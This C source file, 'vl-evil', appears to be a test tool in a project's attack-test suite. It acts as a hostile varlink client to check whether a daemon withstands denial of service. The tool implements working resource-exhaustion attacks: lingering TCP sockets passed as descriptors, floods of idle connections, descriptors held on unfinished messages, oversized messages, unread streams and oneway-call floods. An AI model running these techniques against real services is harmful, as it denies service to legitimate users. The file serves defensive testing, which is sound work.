/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * vl-evil: a hostile varlink peer for tests/attack/. It does what a caller
 * the daemon does not trust could do to deny others service:
 *
 *   vl-evil SOCKET linger  -n N -c CALL [-l SEC] [-t SEC]
 *       N times: a loopback TCP socket with a full send queue, a peer that
 *       never reads and SO_LINGER SEC, passed as fd 0 with CALL; then
 *       forgotten here, so that the daemon's close is the last one.
 *   vl-evil SOCKET conns   -n N [-r] [-t SEC]      hold N idle connections
 *   vl-evil SOCKET fds     -n N -f K [-t SEC]      K fds on an unfinished message, each
 *   vl-evil SOCKET big     -n N -b BYTES [-t SEC]  BYTES with no NUL, each
 *   vl-evil SOCKET stream  -n N -c CALL [-t SEC]   N "more" calls whose replies are never read
 *   vl-evil SOCKET oneway  -n N -c CALL [-o FILE] [-t SEC]
 *       N oneway calls (CALL says "oneway":true) on one connection, as fast
 *       as the daemon takes them, each with FILE's fd if given; a closed
 *       connection is opened again. Prints "ready 0" first, and "end SENT"
 *       once N are sent or -t seconds have passed.
 *
 * Each prints "ready OPEN" once its connections are set up (OPEN: how many
 * the daemon has not closed), holds them for -t seconds (default 10), and
 * prints "end OPEN". With -r, connections the daemon closes are opened
 * again at once while holding. Exits 0 unless it could not run at all.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#define FDS_MAX 253

static const char *sock_path;
static int n_conns = 1, n_fds = 1, linger_sec = 3600, hold_sec = 10;
static size_t big_bytes = 1024;
static const char *call_json = "{\"method\":\"org.varlink.service.GetInfo\"}";
static const char *oneway_file;
static bool reconnect;

static void die(const char *what)
{
	fprintf(stderr, "vl-evil: %s: %s\n", what, strerror(errno));
	exit(2);
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* As many fds as the hard limit allows: holding thousands is the point. */
static void raise_nofile(void)
{
	struct rlimit rl;

	if (getrlimit(RLIMIT_NOFILE, &rl) == 0) {
		rl.rlim_cur = rl.rlim_max;
		(void)setrlimit(RLIMIT_NOFILE, &rl);
	}
}

/* A connection to the daemon, or -1 (e.g. out of fds). */
static int vl_connect(void)
{
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (fd < 0)
		return -1;
	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", sock_path);
	if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		close(fd);
		return -1;
	}
	return fd;
}

/* Bytes, with fds on the first one when n > 0. */
static int send_with_fds(int fd, const void *buf, size_t len, const int *fds, int n)
{
	union {
		struct cmsghdr h;
		char buf[CMSG_SPACE(sizeof(int) * FDS_MAX)];
	} control = {};
	struct iovec iov = { .iov_base = (void *)buf, .iov_len = len };
	struct msghdr mh = { .msg_iov = &iov, .msg_iovlen = 1 };

	if (n > 0) {
		struct cmsghdr *cm;

		mh.msg_control = &control;
		mh.msg_controllen = CMSG_SPACE(sizeof(int) * (size_t)n);
		cm = CMSG_FIRSTHDR(&mh);
		cm->cmsg_level = SOL_SOCKET;
		cm->cmsg_type = SCM_RIGHTS;
		cm->cmsg_len = CMSG_LEN(sizeof(int) * (size_t)n);
		memcpy(CMSG_DATA(cm), fds, sizeof(int) * (size_t)n);
	}
	return sendmsg(fd, &mh, MSG_NOSIGNAL) < 0 ? -1 : 0;
}

/* The call with its NUL. */
static int send_call(int fd, const int *fds, int n)
{
	return send_with_fds(fd, call_json, strlen(call_json) + 1, fds, n);
}

/* Whether the daemon has closed fd (EOF or error after any replies). */
static bool closed_by_peer(int fd)
{
	char buf[4096];
	ssize_t n;

	for (;;) {
		n = recv(fd, buf, sizeof(buf), MSG_DONTWAIT);
		if (n > 0)
			continue;
		return n == 0 || (errno != EAGAIN && errno != EINTR);
	}
}

/*
 * A TCP socket whose close lingers: a loopback connection the other end
 * never reads, its send queue full, SO_LINGER on. The listener and the
 * accepted end stay open in *keep (they must not read).
 */
static int linger_socket(int keep[2])
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	socklen_t sl = sizeof(sa);
	struct linger lg = { .l_onoff = 1, .l_linger = linger_sec };
	int small = 4096, lfd, cfd, afd;
	char chunk[65536] = {};

	lfd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (lfd < 0)
		die("socket");
	(void)setsockopt(lfd, SOL_SOCKET, SO_RCVBUF, &small, sizeof(small));
	if (bind(lfd, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(lfd, 1) < 0 ||
	    getsockname(lfd, (struct sockaddr *)&sa, &sl) < 0)
		die("tcp listen");
	cfd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (cfd < 0)
		die("socket");
	(void)setsockopt(cfd, SOL_SOCKET, SO_SNDBUF, &small, sizeof(small));
	if (connect(cfd, (struct sockaddr *)&sa, sizeof(sa)) < 0)
		die("tcp connect");
	afd = accept4(lfd, NULL, NULL, SOCK_CLOEXEC);
	if (afd < 0)
		die("accept");
	/* Fill what the peer's window and our send buffer take. */
	while (send(cfd, chunk, sizeof(chunk), MSG_DONTWAIT | MSG_NOSIGNAL) > 0)
		;
	if (setsockopt(cfd, SOL_SOCKET, SO_LINGER, &lg, sizeof(lg)) < 0)
		die("SO_LINGER");
	keep[0] = lfd;
	keep[1] = afd;
	return cfd;
}

static void attack_linger(void)
{
	int *keep = calloc((size_t)n_conns * 2, sizeof(int));
	int sent = 0;

	if (!keep)
		die("calloc");
	for (int i = 0; i < n_conns; i++) {
		int tcp = linger_socket(&keep[2 * i]);
		int fd = vl_connect();
		struct pollfd p;

		if (fd < 0) {
			close(tcp);
			continue;
		}
		sent += send_call(fd, &tcp, 1) == 0;
		/* Ours goes; the daemon's copy is the last. */
		close(tcp);
		/* Its answer, if it comes: the daemon may hold it until its close is done. */
		p = (struct pollfd){ .fd = fd, .events = POLLIN };
		(void)poll(&p, 1, 2000);
		close(fd);
	}
	printf("ready %d\n", sent);
	fflush(stdout);
	sleep((unsigned)hold_sec);
	printf("end %d\n", sent);
}

/* Set up connection i for the mode; -1 when it cannot be. */
static int open_one(char mode, int memfd)
{
	static int fds[FDS_MAX];
	int fd = vl_connect();

	if (fd < 0)
		return -1;
	switch (mode) {
	case 'f':
		for (int i = 0; i < n_fds; i++)
			fds[i] = memfd;
		/* The start of a message, never its end: the fds wait with it. */
		if (send_with_fds(fd, "{", 1, fds, n_fds) < 0) {
			close(fd);
			return -1;
		}
		break;
	case 'b':
		/* Written by pump_big(), all connections at once. */
		if (fcntl(fd, F_SETFL, O_NONBLOCK) < 0)
			die("fcntl");
		break;
	case 's': {
		int small = 4096;

		/* Little room on our side: the daemon's queue grows sooner. */
		(void)setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &small, sizeof(small));
		if (send_call(fd, NULL, 0) < 0) {
			close(fd);
			return -1;
		}
		break;
	}
	default:
		break;
	}
	return fd;
}

static int count_open(const int *fds, int n)
{
	int open = 0;

	for (int i = 0; i < n; i++)
		open += fds[i] >= 0;
	return open;
}

/*
 * Write big_bytes with no NUL to every connection, all at once, as fast
 * as the daemon reads; one it closes, or one it does not read from, is
 * left at the deadline. Returns how many got everything.
 */
static int pump_big(int *fds, double deadline)
{
	size_t *left = calloc((size_t)n_conns, sizeof(*left));
	struct pollfd *p = calloc((size_t)n_conns, sizeof(*p));
	static char chunk[65536];
	int done = 0, active;

	if (!left || !p)
		die("calloc");
	memset(chunk, ' ', sizeof(chunk));
	for (int i = 0; i < n_conns; i++)
		left[i] = fds[i] >= 0 ? big_bytes : 0;
	do {
		active = 0;
		for (int i = 0; i < n_conns; i++)
			p[i] = (struct pollfd){ .fd = left[i] ? fds[i] : -1, .events = POLLOUT };
		if (poll(p, (nfds_t)n_conns, 100) < 0 && errno != EINTR)
			die("poll");
		for (int i = 0; i < n_conns; i++) {
			ssize_t n;

			if (!left[i])
				continue;
			if (p[i].revents & (POLLERR | POLLHUP)) {
				left[i] = 0;
				continue;
			}
			active++;
			if (!(p[i].revents & POLLOUT))
				continue;
			n = send(fds[i], chunk, left[i] < sizeof(chunk) ? left[i] : sizeof(chunk),
				 MSG_NOSIGNAL | MSG_DONTWAIT);
			if (n < 0 && errno != EAGAIN && errno != EINTR)
				left[i] = 0;
			else if (n > 0 && (left[i] -= (size_t)n) == 0)
				done++;
		}
	} while (active && now() < deadline);
	free(left);
	free(p);
	return done;
}

static void watch(int ep, const int *fds, int i)
{
	struct epoll_event e = { .events = EPOLLIN | EPOLLRDHUP, .data.u32 = (uint32_t)i };

	if (fds[i] >= 0)
		(void)epoll_ctl(ep, EPOLL_CTL_ADD, fds[i], &e);
}

/* Hold what is open; with -r reopen what the daemon closes (not for streams: never read). */
static void hold(char mode, int memfd, int *fds)
{
	double end = now() + hold_sec;

	if (mode == 'b')
		printf("written %d\n", pump_big(fds, end));
	struct epoll_event ev[256];
	int ep = epoll_create1(EPOLL_CLOEXEC);

	if (ep < 0)
		die("epoll_create1");
	/* epoll, not poll: the attacker's own CPU is not what is measured. */
	for (int i = 0; i < n_conns; i++)
		watch(ep, fds, i);
	while (now() < end) {
		int n;

		if (!reconnect || mode == 's') {
			usleep(100000);
			continue;
		}
		/* Wait for the daemon to answer or close one, then open it again at once. */
		n = epoll_wait(ep, ev, (int)(sizeof(ev) / sizeof(ev[0])), 100);
		for (int k = 0; k < n; k++) {
			int i = (int)ev[k].data.u32;

			if (fds[i] >= 0 && !closed_by_peer(fds[i]))
				continue;
			if (fds[i] >= 0)
				close(fds[i]);
			fds[i] = open_one(mode, memfd);
			watch(ep, fds, i);
		}
		/* Ones that could not be opened: try again. */
		for (int i = 0; i < n_conns; i++)
			if (fds[i] < 0) {
				fds[i] = open_one(mode, memfd);
				watch(ep, fds, i);
			}
	}
	close(ep);
}

static void attack_hold(char mode)
{
	int *fds = calloc((size_t)n_conns, sizeof(int));
	int memfd = -1;

	if (!fds)
		die("calloc");
	if (mode == 'f') {
		memfd = memfd_create("vl-evil", MFD_CLOEXEC);
		if (memfd < 0)
			die("memfd_create");
	}
	for (int i = 0; i < n_conns; i++)
		fds[i] = open_one(mode, memfd);
	usleep(200000);	/* let the daemon accept and refuse */
	for (int i = 0; i < n_conns; i++)
		if (fds[i] >= 0 && mode != 's' && closed_by_peer(fds[i])) {
			close(fds[i]);
			fds[i] = -1;
		}
	printf("ready %d\n", count_open(fds, n_conns));
	fflush(stdout);
	hold(mode, memfd, fds);
	/* Streams too, now: what is left unread goes, and the end shows whether they were dropped. */
	for (int i = 0; i < n_conns; i++)
		if (fds[i] >= 0 && closed_by_peer(fds[i])) {
			close(fds[i]);
			fds[i] = -1;
		}
	printf("end %d\n", count_open(fds, n_conns));
}

/* The call (with its NUL) on fd, waiting up to until for room; -1 when
 * the daemon closed the connection or time is up. */
static int send_oneway(int fd, int file_fd, double until)
{
	struct pollfd p = { .fd = fd, .events = POLLOUT };

	while (now() < until) {
		int r = send_with_fds(fd, call_json, strlen(call_json) + 1, &file_fd, file_fd >= 0);

		if (r == 0)
			return 0;
		if (errno != EAGAIN && errno != EINTR)
			return -1;
		(void)poll(&p, 1, 100);
	}
	return -1;
}

/* Issue 12, S5: oneway calls get no reply, so nothing paces them but the
 * daemon's reading; each would queue a job if nothing counted them. */
static void attack_oneway(void)
{
	int file_fd = -1, fd = -1;
	double until = now() + hold_sec;
	long sent = 0;

	if (oneway_file) {
		file_fd = open(oneway_file, O_RDONLY | O_CLOEXEC);
		if (file_fd < 0)
			die(oneway_file);
	}
	printf("ready 0\n");
	while (sent < n_conns && now() < until) {
		if (fd < 0) {
			fd = vl_connect();
			if (fd < 0) {
				usleep(10000);
				continue;
			}
			(void)fcntl(fd, F_SETFL, O_NONBLOCK);
		}
		if (send_oneway(fd, file_fd, until) < 0) {
			close(fd);
			fd = -1;
			continue;
		}
		sent++;
		/* Anything the daemon says (an error for a refused peer) is read and dropped. */
		if (closed_by_peer(fd)) {
			close(fd);
			fd = -1;
		}
	}
	printf("end %ld\n", sent);
	if (fd >= 0)
		close(fd);
	if (file_fd >= 0)
		close(file_fd);
}

int main(int argc, char **argv)
{
	const char *mode;
	int c;

	if (argc < 3) {
		fprintf(stderr, "usage: vl-evil SOCKET linger|conns|fds|big|stream|oneway [options]\n");
		return 2;
	}
	sock_path = argv[1];
	mode = argv[2];
	optind = 3;
	while ((c = getopt(argc, argv, "n:f:b:c:l:t:o:r")) != -1) {
		switch (c) {
		case 'n': n_conns = atoi(optarg); break;
		case 'f': n_fds = atoi(optarg); break;
		case 'b': big_bytes = strtoull(optarg, NULL, 0); break;
		case 'c': call_json = optarg; break;
		case 'l': linger_sec = atoi(optarg); break;
		case 't': hold_sec = atoi(optarg); break;
		case 'o': oneway_file = optarg; break;
		case 'r': reconnect = true; break;
		default: return 2;
		}
	}
	if (n_conns < 1 || n_fds < 1 || n_fds > FDS_MAX || big_bytes == 0)
		return 2;
	raise_nofile();
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (strcmp(mode, "linger") == 0)
		attack_linger();
	else if (strcmp(mode, "conns") == 0)
		attack_hold('c');
	else if (strcmp(mode, "fds") == 0)
		attack_hold('f');
	else if (strcmp(mode, "big") == 0)
		attack_hold('b');
	else if (strcmp(mode, "stream") == 0)
		attack_hold('s');
	else if (strcmp(mode, "oneway") == 0)
		attack_oneway();
	else
		return 2;
	return 0;
}
